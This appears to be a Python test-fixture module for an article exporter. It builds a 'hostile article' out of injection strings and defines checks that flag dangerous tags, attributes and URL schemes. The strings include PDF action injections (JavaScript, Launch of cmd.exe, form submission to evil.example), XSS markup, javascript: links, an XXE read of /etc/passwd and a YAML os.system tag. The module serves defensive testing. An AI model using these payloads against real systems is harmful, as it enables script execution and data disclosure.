"""Addresses, titles, names and texts that want to become something else in a form: a script, an action, a mark."""

from __future__ import annotations

import base64
import re
from itertools import product
from typing import Final

from core.article.article import Article
from core.article.blocks import Block, BlockKind, Image, Metadata, Run, Style
from core.article.source import MediaType, Source
from tests.core.export.pictures import png

_PDF: Final = (
    ")/S/JavaScript/JS(app.alert(1))/X(",
    ")>>/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
    ")/S/Launch/F(calc.exe)/X(",
    ")>>>>endobj 9 0 obj<</S/Launch/Win<</F(cmd.exe)>>>>endobj(",
    ")/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>/X(",
    "\\)/S/GoToR/F(other.pdf)/X(",
    "\\\\)/S/SubmitForm/F(http://evil.example)/X(",
    "\\051/S/JavaScript/JS\\050app.alert\\0501\\051\\051",
    "%29/S/JavaScript/JS%28app.alert%281%29%29",
    "(((", ")))", "\\", "\r)/S/Launch/X(", "<feff0029>", "] /Kids [", "endstream endobj trailer <</Root 1 0 R>>",
)  # fmt: skip
_MARKUP: Final = (
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onfocus='alert(1)' x='",
    "` onload=`alert(1)", "</title><script>alert(1)</script>", "</style><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>",
    "--><iframe src=javascript:alert(1)>", "<svg/onload=alert(1)>", "<form action=javascript:alert(1)><button>", "</a><base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<style>@import url(//evil.example)</style>", "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\x00<script>alert(1)</script>",
    "<ScRiPt\x0c>alert(1)</sCrIpT>", "<!--<img src=--><img src=x onerror=alert(1)//>", "<?php system('x') ?>", "<![CDATA[<script>]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)  # fmt: skip
_MARKS: Final = (
    "](javascript:alert(1))", "](<javascript:alert(1)>)[", "> <javascript:alert(1)>", "](x) [y](javascript:alert(1))", "[x]: javascript:alert(1)",
    "![x](javascript:alert(1))", "](javascript&colon;alert(1))", "](data:text/html,<script>alert(1)</script>)", "`<script>`<script>alert(1)</script>",
    "\\](javascript:alert(1))", "\\<script>alert(1)</script>", "\n\n<script>alert(1)</script>\n\n", "\n---\n<script>alert(1)</script>", "\n[x]: javascript:alert(1)\n\n[x]",
    "```\n<script>alert(1)</script>", "|<script>alert(1)</script>|", "\u2028<script>alert(1)</script>", "$<script>alert(1)</script>$", "$$[x](javascript:alert(1))$$",
    "[^1]: <script>alert(1)</script>", '"\nscript: <script>alert(1)</script>\n"', "'\n...\n<script>alert(1)</script>", "!!python/object/apply:os.system ['x']", "\ud800<script>",
)  # fmt: skip
TEXTS: Final = (*_PDF, *_MARKUP, *_MARKS)
"""What a title, a name or the words of an image may be."""

_REFUSED: Final = (
    "javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)",
    "\x01javascript:alert(1)", "\x00javascript:alert(1)", "javascript://x.example/%0aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "file://host/share", "FILE:c:\\x.exe",
    "\\\\host\\share", "/\\host\\share", "\\/host/share", "smb://host/share", "ms-word:ofe|u|http://x", "intent://x#Intent;scheme=http;end", "blob:http://x/1",
    "view-source:javascript:alert(1)", "filesystem:http://x/1", "about:blank", "chrome://settings", "jar:http://x!/y", "ftp://x.example/y", "tel:1", "feed:javascript:alert(1)",
    "x-apple.systempreferences:", "search-ms:query=x", "ldap://x", "steam://run/1", "livescript:x", "mocha:x", "wyciwyg://x", "res://x", "mk:@MSITStore:x", "urn:x:y", "cid:x",
)  # fmt: skip
_HOSTS: Final = (
    "http://x.example/", "https://x.example/a?b=", "https://x.example/#", "mailto:a@x.example?subject=", "//x.example/", "HTTP://x.example/", "http://x.example/%",
    "http://u:p@x.example/", "http:\\\\x.example\\",
)  # fmt: skip
ADDRESSES: Final = (*_REFUSED, *(host + text for host, text in product(_HOSTS, TEXTS)))
"""Addresses; those from ``LINKED`` on lead to the web or to a letter, and stay links."""
LINKED: Final = len(_REFUSED)

_FORBIDDEN_TAGS: Final = frozenset(
    "script iframe frame frameset object embed applet form input button base svg template annotation-xml annotation semantics maction mglyph malignmark".split()
)
_FORBIDDEN_TAGS_OF_TEXT: Final = frozenset(
    "style meta link html head body title noscript textarea xmp plaintext".split()
)
_SCHEME: Final = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_PICTURE: Final = "data:image/png;base64," + base64.b64encode(png()).decode()


def hostile_article(url: str | None = "https://x.example/)/S/Launch/X(<script>") -> Article:
    """Make an article of all of them: titles, names, words of images, texts, cells, code and formulas."""
    blocks: list[Block] = []
    for number, address in enumerate(ADDRESSES):
        words = f"w{number}"
        blocks.append(Block(BlockKind.PARAGRAPH, (Run(words, 0, 0, Style.PLAIN, address), Run(" end", 0, 0))))
    blocks += [Block(BlockKind.IMAGE, image=Image(address, "words")) for address in ADDRESSES]
    for text in TEXTS:
        run = Run(text, 0, 0)
        math = run._replace(style=Style.MATH)
        linked = run._replace(href=f"#{text}")
        blocks += [
            Block(BlockKind.HEADING, (run,), level=2),
            Block(BlockKind.PARAGRAPH, (run, run._replace(style=Style.BOLD), run._replace(style=Style.CODE), math, linked)),
            Block(BlockKind.PARAGRAPH, (math,)),
            Block(BlockKind.PARAGRAPH, (run,), reflow=True),
            Block(BlockKind.ITEM, (run, linked), level=1, marker="- "),
            Block(BlockKind.PARAGRAPH, (run,), quoted=1),
            Block(BlockKind.CAPTION, (run,)),
            Block(BlockKind.CODE, (run,)),
            Block(BlockKind.TABLE, rows=(((run, math), (run._replace(style=Style.CODE),)), ((linked,), (run,))), header_rows=1),
            Block(BlockKind.IMAGE, image=Image("https://x.example/a.png", text)),
            Block(BlockKind.IMAGE, image=Image(_PICTURE, text)),
            Block(BlockKind.IMAGE, image=Image("file:///x", text)),
        ]  # fmt: skip
    return article_of(blocks, " ".join(TEXTS), TEXTS, url)


def article_of(blocks: list[Block], title: str, authors: tuple[str, ...], url: str | None = None) -> Article:
    """Make an article that says of itself what it likes."""
    said = Metadata(
        title=title, byline=", ".join(authors), authors=authors, published=title, site=title, language=title
    )
    return Article(Source(b"x", "x", title, MediaType.HTML, url=url), (), tuple(blocks), said)


def harm_in_attributes(tag: str, attributes: dict[str, str]) -> list[str]:
    """Say what the attributes of an element could do."""
    harm = [f"<{tag} {name}>" for name in attributes if name.lower().startswith("on")]
    asking = ("style", "srcset", "action", "formaction", "background", "srcdoc", "ping")
    harm += [f"<{tag} {name}>" for name in asking if name in attributes]
    for name, schemes in (("href", {"http", "https", "mailto"}), ("src", {"http", "https", "data"})):
        address = attributes.get(name, "").strip("".join(map(chr, range(0x21)))).translate({9: "", 10: "", 13: ""})
        scheme = _SCHEME.match(address)
        if scheme and scheme[1].lower() not in schemes:
            harm.append(f"<{tag} {name}={address!r}>")
        if address.lower().startswith("data:") and not re.match(r"data:image/(?:png|jpeg|gif|webp);base64,", address):
            harm.append(f"<{tag} {name}={address!r}>")
        if re.match(r"[\\/]{2}", address) or re.search(r"[^!#-;=?-\[\]_a-z~%]|[^\w]\[", address):
            harm.append(f"<{tag} {name}={address!r}>")
    return harm


def harm_of(tag: str, attributes: dict[str, str], *, in_text: bool = False) -> list[str]:
    """Say what an element of a page could do: run, ask for something, send, or lead where no link may.

    Args:
        tag: Its name, in small letters.
        attributes: Its attributes.
        in_text: Whether it stands in the body, where a page's own head has no business.
    """
    harm = harm_in_attributes(tag, attributes)
    if tag in _FORBIDDEN_TAGS or (in_text and tag in _FORBIDDEN_TAGS_OF_TEXT):
        harm.append(f"<{tag}>")
    if tag == "meta" and attributes.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy":
        harm.append(f"<meta {attributes}>")
    if tag == "link" and attributes.get("rel") not in ("stylesheet", "canonical"):
        harm.append(f"<link {attributes}>")
    return harm
